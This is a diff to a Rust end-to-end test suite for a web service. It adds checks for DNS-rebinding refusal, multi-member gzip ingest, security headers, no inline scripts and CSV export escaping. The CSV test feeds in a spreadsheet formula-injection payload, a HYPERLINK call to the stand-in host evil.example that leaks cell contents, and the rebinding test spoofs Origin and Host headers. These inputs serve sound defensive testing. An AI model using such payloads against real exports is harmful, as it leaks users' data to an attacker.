@@ -244,6 +244,17 @@ async fn a_cross_origin_websocket_handshake_is_refused() {
             .await
             .unwrap_err();
     assert_eq!(status(err), 401, "a made-up session id");
+    // DNS rebinding: Origin and Host agree, but name another site.
+    let port = app.addr.rsplit(':').next().unwrap();
+    let mut req = app.ws_request(app.cookie.as_deref());
+    req.headers_mut().insert(
+        "origin",
+        format!("http://evil.example:{port}").parse().unwrap(),
+    );
+    req.headers_mut()
+        .insert("host", format!("evil.example:{port}").parse().unwrap());
+    let err = tokio_tungstenite::connect_async(req).await.unwrap_err();
+    assert_eq!(status(err), 403, "a rebound name is not this server");
     let mut req = app.ws_request(app.cookie.as_deref());
     req.headers_mut()
         .insert("origin", app.origin().parse().unwrap());
@@ -338,9 +349,34 @@ async fn csv_parquet_and_gzip_bodies_are_ingested_like_ndjson() {
     let (status, _) = post(&app, "application/x-ndjson", Some("br"), b"{}".to_vec()).await;
     assert_eq!(status, 415);
 
+    // `cat a.gz b.gz`: every member is read.
+    let gzip = |id: &str| {
+        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        gz.write_all(accepted_event(id, "2025-11-20T08:00:00+07:00", "00070", "online").as_bytes())
+            .unwrap();
+        gz.write_all(b"\n").unwrap();
+        gz.finish().unwrap()
+    };
+    let mut two = gzip("m1");
+    two.extend(gzip("m2"));
+    let (status, report) = post(&app, "application/x-ndjson", Some("gzip"), two.clone()).await;
+    assert_eq!(
+        (status, report["accepted"].as_u64()),
+        (200, Some(2)),
+        "{report}"
+    );
+    two.extend(b"trailing junk");
+    let (status, report) = post(&app, "application/x-ndjson", Some("gzip"), two).await;
+    assert_eq!(status, 400, "{report}");
+    let message = report["error"].as_str().unwrap();
+    assert!(
+        message.contains("Content-Encoding") && message.contains("trailing"),
+        "{message}"
+    );
+
     app.settle().await.unwrap();
     let overview = app.get_json("/api/v1/overview").await.unwrap();
-    assert_eq!(row(&overview, "01").unwrap()["accepted"], 3);
+    assert_eq!(row(&overview, "01").unwrap()["accepted"], 5);
 }
 
 #[tokio::test]
@@ -387,6 +423,18 @@ async fn ingest_needs_a_live_token_and_stays_inside_its_units() {
     let (status, report) = app.ingest_as(&hanoi, &body).await.unwrap();
     assert_eq!(status, 200, "{report}");
     assert_eq!(report["accepted"], 2, "{report}");
+    // The scheme is case-insensitive (RFC 9110): an accepted event again,
+    // a duplicate, with `bearer` in lower case.
+    let r = app
+        .http
+        .post(app.url("/api/v1/events"))
+        .header("content-type", "application/x-ndjson")
+        .header("authorization", format!("bearer {hanoi}"))
+        .body(accepted_event("in-1", at, "00070", "online"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200, "lower-case bearer scheme");
     let rejected = &report["rejected"][0];
     assert_eq!(rejected["line"], 2);
     assert_eq!(rejected["event_id"], "out-1");
@@ -431,7 +479,7 @@ async fn ingest_needs_a_live_token_and_stays_inside_its_units() {
 
 /// `govpulse_checkpoint_offset_bytes` from `/metrics`.
 async fn checkpoint_offset(app: &e2e::TestApp) -> f64 {
-    let m = app.get_as(None, "/metrics").await.unwrap().body;
+    let m = app.metrics().await.unwrap();
     m.lines()
         .find_map(|l| l.strip_prefix("govpulse_checkpoint_offset_bytes "))
         .and_then(|v| v.parse().ok())
@@ -606,7 +654,7 @@ async fn late_events_are_corrections_and_too_late_ones_are_counted_not_folded() 
         "{kpis}"
     );
     assert_eq!(kpis["final_before"], "2025-11-20T10:00:00+07:00");
-    let metrics = app.get_as(None, "/metrics").await.unwrap().body;
+    let metrics = app.metrics().await.unwrap();
     assert!(
         metrics.contains("govpulse_events_too_late_total 1\n"),
         "{metrics}"
@@ -705,7 +753,7 @@ async fn finished_dossiers_past_the_horizon_are_folded_into_sums_with_the_same_n
     .join("\n");
     assert_eq!(app.ingest(&body).await.unwrap().0, 200);
     app.settle().await.unwrap();
-    let metrics = app.get_as(None, "/metrics").await.unwrap().body;
+    let metrics = app.metrics().await.unwrap();
     assert!(
         metrics.contains("govpulse_dossiers_held 2\n"),
         "c and d are held, a and b folded away: {metrics}"
@@ -733,4 +781,154 @@ async fn finished_dossiers_past_the_horizon_are_folded_into_sums_with_the_same_n
         overdue.contains(&2),
         "b and c overdue on 2025-11-25: {overdue:?}"
     );
+}
+
+#[tokio::test]
+async fn every_answer_carries_the_security_headers() {
+    let web = tempfile::tempdir().unwrap();
+    std::fs::write(
+        web.path().join("index.html"),
+        "<!doctype html><title>t</title><script type=\"module\" src=\"/boot.js\"></script>",
+    )
+    .unwrap();
+    std::fs::write(web.path().join("style.css"), "body { margin: 0 }").unwrap();
+    let app = spawn_app(AppOptions {
+        web_dir: Some(web.path().to_owned()),
+        ..Default::default()
+    })
+    .await
+    .unwrap();
+    let cookie = app.cookie.as_deref();
+    for (path, status) in [
+        ("/", 200),
+        ("/style.css", 200),
+        ("/some/page", 200),
+        ("/api/v1/schema", 200),
+        ("/api/v1/units/01/kpis", 200),
+        ("/api/v1/units/nope", 404),
+        ("/api/v1/units/01/kpis?bad=1", 400),
+    ] {
+        let a = app.get_as(cookie, path).await.unwrap();
+        assert_eq!(a.status, status, "{path}: {}", a.body);
+        let h = |name: &str| {
+            a.headers
+                .get(name)
+                .and_then(|v| v.to_str().ok())
+                .unwrap_or_else(|| panic!("{path}: no {name}"))
+                .to_owned()
+        };
+        let csp = h("content-security-policy");
+        for rule in [
+            "default-src 'self'",
+            "script-src 'self' 'wasm-unsafe-eval'",
+            "object-src 'none'",
+            "frame-ancestors 'none'",
+            "base-uri 'none'",
+        ] {
+            assert!(csp.contains(rule), "{path}: {rule} not in {csp}");
+        }
+        assert!(!csp.contains("script-src 'self' 'unsafe-inline'"), "{csp}");
+        assert_eq!(h("x-frame-options"), "DENY", "{path}");
+        assert_eq!(h("x-content-type-options"), "nosniff", "{path}");
+        assert_eq!(h("referrer-policy"), "no-referrer", "{path}");
+    }
+    // An anonymous refusal and a refused ingest are answers too.
+    let a = app.get_as(None, "/api/v1/overview").await.unwrap();
+    assert_eq!(a.status, 401);
+    assert!(a.headers.contains_key("content-security-policy"));
+    let r = app
+        .http
+        .post(app.url("/api/v1/events"))
+        .body("{}")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 401);
+    assert_eq!(r.headers()["x-frame-options"], "DENY");
+}
+
+#[test]
+fn the_dashboard_page_has_no_inline_script() {
+    let index =
+        std::fs::read_to_string(e2e::workspace_root().join("frontend/static/index.html")).unwrap();
+    let mut rest = index.as_str();
+    while let Some(i) = rest.find("<script") {
+        let tag_end = rest[i..].find('>').unwrap() + i;
+        let tag = &rest[i..=tag_end];
+        assert!(tag.contains(" src="), "inline script: {tag}");
+        let close = rest[tag_end..].find("</script>").unwrap() + tag_end;
+        assert!(
+            rest[tag_end + 1..close].trim().is_empty(),
+            "inline script body"
+        );
+        rest = &rest[close..];
+    }
+}
+
+#[tokio::test]
+async fn csv_exports_carry_no_spreadsheet_formulas() {
+    let app = spawn_app(AppOptions::default()).await.unwrap();
+    let ids = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")",
+        "@SUM(1+1)",
+        "+1+1",
+        "-1+1",
+        "D-plain",
+    ];
+    let mut lines: Vec<String> = ids
+        .iter()
+        .enumerate()
+        .map(|(i, id)| {
+            let mut v: Value = serde_json::from_str(&accepted_event(
+                &format!("f{i}"),
+                "2025-11-20T08:00:00+07:00",
+                "00070",
+                "online",
+            ))
+            .unwrap();
+            v["dossier_id"] = Value::from(*id);
+            v.to_string()
+        })
+        .collect();
+    // Not JSON: rejected, and its raw text is exported below.
+    lines.push("=1+1".into());
+    let (status, report) = app.ingest(&lines.join("\n")).await.unwrap();
+    assert_eq!(
+        (status, report["accepted"].as_u64()),
+        (200, Some(5)),
+        "{report}"
+    );
+    app.settle().await.unwrap();
+
+    let csv = app
+        .get_as(app.cookie.as_deref(), "/api/v1/units/01/backlog?format=csv")
+        .await
+        .unwrap();
+    assert_eq!(csv.status, 200, "{}", csv.body);
+    for want in [
+        "\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"open\"\")\",00070,",
+        "\n'@SUM(1+1),00070,",
+        "\n'+1+1,00070,",
+        "\n'-1+1,00070,",
+        "\nD-plain,00070,",
+    ] {
+        assert!(csv.body.contains(want), "{want:?} not in\n{}", csv.body);
+    }
+    for line in csv.body.lines().skip(1) {
+        assert!(!line.starts_with(['=', '+', '-', '@']), "{line}");
+        // The age stays a number.
+        let age = line.rsplit(',').next().unwrap();
+        assert!(age.parse::<f64>().is_ok(), "age {age:?} in {line}");
+    }
+
+    let out = e2e::govpulse(&[
+        "rejected",
+        "export",
+        "--format",
+        "csv",
+        "--data",
+        app.data_dir.to_str().unwrap(),
+    ])
+    .unwrap();
+    assert!(out.lines().any(|l| l.ends_with(",'=1+1")), "{out}");
 }
